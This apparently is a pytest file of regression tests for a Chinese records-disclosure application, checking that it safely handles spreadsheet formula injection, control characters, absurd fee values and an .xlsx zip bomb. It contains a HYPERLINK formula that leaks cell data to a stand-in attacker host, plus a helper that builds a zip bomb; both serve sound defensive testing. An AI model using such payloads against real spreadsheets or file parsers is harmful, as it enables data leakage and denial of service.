"""Hostile input that used to get through: formulas in the catalogue workbook, control
characters that broke the whole register's .xlsx export, absurd fees that crashed the annual
report, and a holiday .xlsx zip bomb."""

from __future__ import annotations

import csv
import datetime as dt
import io
import resource
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from app_helpers import new_app, valid_id

from disclosure_desk.domain.errors import InputError
from disclosure_desk.domain.fees import checked_fee
from disclosure_desk.files import holidays_file, spreadsheet
from disclosure_desk.services.applications import cases as applications
from disclosure_desk.services.applications.spreadsheets import HEADERS as APP_HEADERS
from disclosure_desk.services.applications.spreadsheets import import_applications
from disclosure_desk.services.common import calendar
from disclosure_desk.services.items import spreadsheets as items_io
from disclosure_desk.services.reporting import annual as reports
from disclosure_desk.services.reporting import catalogue as reports_catalogue
from disclosure_desk.store.models import Application, Item


def _items_csv(path: Path, rows: list[dict]) -> Path:
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        w = csv.DictWriter(fh, list(items_io.ITEM_HEADERS))
        w.writeheader()
        for r in rows:
            w.writerow({h: "" for h in items_io.ITEM_HEADERS} | r)
    return path


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def test_catalogue_workbook_never_runs_a_formula(db, tmp_path):
    rows = [
        {"标题": f, "文号": f, "公开属性": "主动公开", "发布日期": "2025-03-05"} for f in FORMULAS
    ]
    report = items_io.import_items(db.admin, _items_csv(tmp_path / "f.csv", rows))
    assert report.ok, report.errors
    # However the gate lets them through, a published item's title is what the catalogue prints.
    Item.update(status="published", published_on=dt.date(2025, 3, 5)).execute()
    out = tmp_path / "目录.xlsx"
    assert reports_catalogue.catalogue_xlsx(db.admin, out, 2025) == len(FORMULAS)
    wb = openpyxl.load_workbook(out)  # not data_only: formulas would show as "=…" here
    ws = wb.active
    seen = []
    for row in ws.iter_rows(min_row=4):
        for cell in row:
            if isinstance(cell.value, str) and cell.value.lstrip("'")[:1] in "=+-@":
                assert cell.data_type == "s"
                assert cell.value.startswith("'"), cell.value
                seen.append(cell.value[1:])
    assert sorted(set(seen)) == sorted(FORMULAS)


def test_control_characters_in_a_title_do_not_break_the_register_export(db, tmp_path):
    report = items_io.import_items(
        db.admin,
        _items_csv(
            tmp_path / "ok.csv",
            [
                {"标题": "正常的通知", "公开属性": "主动公开"},
                {"标题": "另一条通知", "公开属性": "主动公开"},
            ],
        ),
    )
    assert report.ok
    # Someone pasted text with control characters (or wrote them with raw SQL).
    first = Item.select().order_by(Item.id).first()
    Item.update(title="带\x01控制\x07字符\x1b的标题").where(Item.id == first.id).execute()
    out = tmp_path / "register.xlsx"
    assert items_io.export_items(db.admin, out) == 2
    titles = [r[1] for r in openpyxl.load_workbook(out).worksheets[0].iter_rows(values_only=True)]
    assert "带控制字符的标题" in titles and "另一条通知" in titles


@pytest.mark.parametrize(
    "fee",
    ["1e300", "inf", "Infinity", "-inf", "nan", "NaN", "-1", "12.345", "99999999999", "1.5e7"],
)
def test_absurd_fees_are_refused_at_import(db, tmp_path, fee):
    path = tmp_path / "apps.csv"
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        w = csv.DictWriter(fh, list(APP_HEADERS))
        w.writeheader()
        w.writerow(
            {h: "" for h in APP_HEADERS}
            | {
                "收到日期": "2025-03-05",
                "申请方式": "当面",
                "申请人类型": "自然人",
                "申请人": "李四",
                "证件号码": valid_id(11),
                "申请内容": "某文件",
                "办理结果": "予以公开",
                "答复日期": "2025-03-20",
                "是否延期": "否",
                "收费金额": fee,
            }
        )
    report = import_applications(db.admin, path)
    assert not report.ok
    assert [e.column for e in report.errors] == ["收费金额"]
    assert Application.select().count() == 0


def test_fee_rule_in_the_domain():
    assert checked_fee("1,200元") == Decimal("1200.00")
    assert checked_fee(35) == Decimal("35.00")
    assert checked_fee("0.5") == Decimal("0.50")
    for bad in ("1e300", "inf", "nan", "-0.01", "abc", float("inf"), Decimal("NaN"), True, None):
        with pytest.raises(InputError):
            checked_fee(bad)


def test_absurd_fee_refused_by_the_service(db):
    app_id = new_app(db.admin, dt.date(2025, 9, 1))
    applications.issue_fee_notice(db.admin, app_id, dt.date(2025, 9, 5), "per_page", 40)
    for bad in (Decimal("Infinity"), Decimal("1e300"), Decimal("NaN"), Decimal("-5")):
        with pytest.raises(InputError):
            applications.record_fee_paid(db.admin, app_id, dt.date(2025, 9, 8), bad)
    assert Application.get_by_id(app_id).fee_collected == 0


def test_annual_report_survives_a_fee_written_with_raw_sql(db):
    """Someone with the database file writes an absurd fee; the report still computes."""
    app_id = new_app(db.admin, dt.date(2025, 3, 1))
    from disclosure_desk.store.models import database_proxy

    sql = "UPDATE application SET fee_collected = 1e300, fee_paid_on = '2025-03-10' WHERE id = ?"
    if database_proxy.obj.__class__.__name__.startswith("Postgres"):
        pytest.skip("PostgreSQL's numeric(12,2) column refuses 1e300 itself")
    database_proxy.obj.execute_sql(sql, (app_id,))
    data = reports.annual_json(db.admin, 2025)  # no crash, no absurd total
    assert data["fees"]["amount_yuan"] < 10**9


def _bomb(member_bytes: int) -> bytes:
    """An .xlsx-shaped zip whose sheet unpacks to ``member_bytes`` of XML padding."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            chunk = b" " * (1024 * 1024)
            for _ in range(member_bytes // len(chunk)):
                fh.write(chunk)
    return buf.getvalue()


def test_holiday_zip_bomb_is_refused_before_parsing(db, tmp_path):
    data = _bomb(300 * 1024 * 1024)
    assert len(data) < 2 * 1024 * 1024  # small on disk …
    path = tmp_path / "holidays.xlsx"
    path.write_bytes(data)
    peak_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(InputError, match="异常文件"):
        calendar.import_file(db.admin, path)
    with pytest.raises(InputError, match="异常文件"):
        holidays_file.parse_holidays_bytes(data, "holidays.xlsx")
    with pytest.raises(InputError, match="异常文件"):
        spreadsheet.read_table(path)  # the register imports share the guard
    grown_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak_before
    assert grown_kb < 100 * 1024  # … and never unpacked (300 MB would show here)


def test_a_modest_but_oversized_holiday_file_is_refused(tmp_path):
    data = _bomb(25 * 1024 * 1024)  # past the holiday limit, below the register limit
    with pytest.raises(InputError, match="异常文件"):
        holidays_file.parse_holidays_bytes(data, "holidays.xlsx")
